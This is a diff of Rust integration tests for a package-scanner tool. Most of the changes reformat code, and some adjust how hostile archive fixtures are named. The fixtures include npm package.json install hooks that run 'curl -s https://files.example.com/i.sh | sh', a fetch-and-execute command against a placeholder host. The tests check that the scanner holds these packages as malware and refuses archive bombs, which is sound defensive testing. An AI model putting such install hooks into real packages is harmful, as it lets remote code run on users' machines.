@@ -17,7 +17,10 @@ fn lab() -> Lab {
     let lab = Lab::new();
     lab.write("plain.tgz", NpmPackage::new("plain", "1.0.0").build().artifact().bytes());
     lab.write("bad one.tgz", dropper("bad", "1.0.0").build().artifact().bytes());
-    lab.write("folder/package.json", r#"{"name":"x","version":"1.0.0","scripts":{"preinstall":"curl -s https://files.example.com/i.sh | sh"}}"#);
+    lab.write(
+        "folder/package.json",
+        r#"{"name":"x","version":"1.0.0","scripts":{"preinstall":"curl -s https://files.example.com/i.sh | sh"}}"#,
+    );
     lab
 }
 
@@ -41,7 +44,11 @@ fn each_path_is_a_line_in_input_order_with_every_field() {
     assert!(found[2]["error"].as_str().unwrap().contains("cannot read it"), "{}", found[2]);
     assert!(found[0]["error"].is_null() && found[2]["sha256"].is_null() && found[3]["sha256"].is_null());
     let signal = &found[1]["signals"][0];
-    assert_eq!((signal["evidence"][0]["path"].as_str(), signal["kind"].as_str()), (Some("package/package.json"), Some("malware")), "{signal}");
+    assert_eq!(
+        (signal["evidence"][0]["path"].as_str(), signal["kind"].as_str()),
+        (Some("package/package.json"), Some("malware")),
+        "{signal}"
+    );
     assert!(lab.upstream.log().is_empty());
 }
 
@@ -50,7 +57,13 @@ fn exit_codes_are_those_of_check() {
     let lab = lab();
     lab.run(&["scan", "plain.tgz"]).expect(0).says(&["1 clean"]);
     lab.run(&["scan", "plain.tgz", "nowhere.tgz"]).expect(3).says(&["ERROR nowhere.tgz", "1 not read, 1 clean"]);
-    lab.run(&["scan", "nowhere.tgz", "folder"]).expect(1).says(&["HOLD", "folder", "package.json:1:", "curl -s https://files.example.com/i.sh", "1 held, 1 not read"]);
+    lab.run(&["scan", "nowhere.tgz", "folder"]).expect(1).says(&[
+        "HOLD",
+        "folder",
+        "package.json:1:",
+        "curl -s https://files.example.com/i.sh",
+        "1 held, 1 not read",
+    ]);
     lab.run(&["scan", "--fail-on", "deny", "folder"]).expect(0);
     lab.run(&["scan", "--fail-on", "deny", "folder", "nowhere.tgz"]).expect(3);
     lab.run(&["scan", "--format", "cyclonedx", "plain.tgz"]).expect(2).complains(&["scan prints human, json, jsonl or sarif"]);
@@ -86,23 +99,30 @@ fn an_archive_and_its_folder_get_the_same_findings() {
     lab.write("bad.tgz", built.artifact().bytes());
     let unpacked = lab.run(&["scan", "--format", "json", "bad.tgz"]).expect(1);
     let unpacked: Value = serde_json::from_str(&unpacked.stdout).unwrap();
-    lab.write("package/package.json", r#"{"name":"bad","version":"1.0.0","main":"index.js","scripts":{"postinstall":"curl -s https://files.example.com/i.sh | sh"}}"#);
+    lab.write(
+        "package/package.json",
+        r#"{"name":"bad","version":"1.0.0","main":"index.js","scripts":{"postinstall":"curl -s https://files.example.com/i.sh | sh"}}"#,
+    );
     let folder: Value = serde_json::from_str(&lab.run(&["scan", "--format", "json", "package"]).expect(1).stdout).unwrap();
-    let ids = |report: &Value| report["paths"][0]["signals"].as_array().unwrap().iter().map(|signal| signal["id"].to_string()).collect::<Vec<_>>();
+    let ids = |report: &Value| {
+        report["paths"][0]["signals"].as_array().unwrap().iter().map(|signal| signal["id"].to_string()).collect::<Vec<_>>()
+    };
     assert_eq!(ids(&unpacked), ids(&folder));
 }
 
 #[test]
 fn every_hostile_archive_is_held_as_refused_and_nothing_is_written() {
     let lab = Lab::new();
-    // Text that claims to be nothing else is a file that is looked at by itself; bombs under smaller limits fit under ours.
-    let meant = |attack: &bifocal_testkit::hostile::HostileArchive| !attack.only_when_strict && attack.limits == ArchiveLimits::default() && attack.name != "no-archive";
-    let attacks: Vec<_> = hostile_archives().into_iter().filter(meant).collect();
+    // Bombs under smaller limits fit under ours.
+    let attacks: Vec<_> =
+        hostile_archives().into_iter().filter(|attack| !attack.only_when_strict && attack.limits == ArchiveLimits::default()).collect();
     assert!(attacks.len() >= 60, "{} attacks", attacks.len());
     let mut list = String::new();
     for attack in &attacks {
-        lab.write(&format!("attacks/{}", attack.name), &attack.bytes);
-        list.push_str(&format!("attacks/{}\n", attack.name));
+        // A text or an empty file is looked at by itself, unless its name claims that it is more.
+        let end = if matches!(attack.name, "no-archive" | "nothing") { ".tgz" } else { "" };
+        lab.write(&format!("attacks/{}{end}", attack.name), &attack.bytes);
+        list.push_str(&format!("attacks/{}{end}\n", attack.name));
     }
     lab.write("list.txt", list);
     let run = lab.run(&["scan", "--format", "jsonl", "--files-from", "list.txt"]).expect(1);
@@ -112,7 +132,8 @@ fn every_hostile_archive_is_held_as_refused_and_nothing_is_written() {
         let failed = line["signals"].as_array().unwrap().iter().any(|signal| signal["status"] == "failed");
         assert!(failed && line["verdict"] == "hold", "{} is not refused: {line}", attack.name);
     }
-    let mut left: Vec<String> = std::fs::read_dir(lab.project()).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
+    let mut left: Vec<String> =
+        std::fs::read_dir(lab.project()).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
     left.sort();
     assert_eq!(left, ["attacks", "list.txt"]);
     assert_eq!(std::fs::read_dir(lab.project().join("attacks")).unwrap().count(), attacks.len());
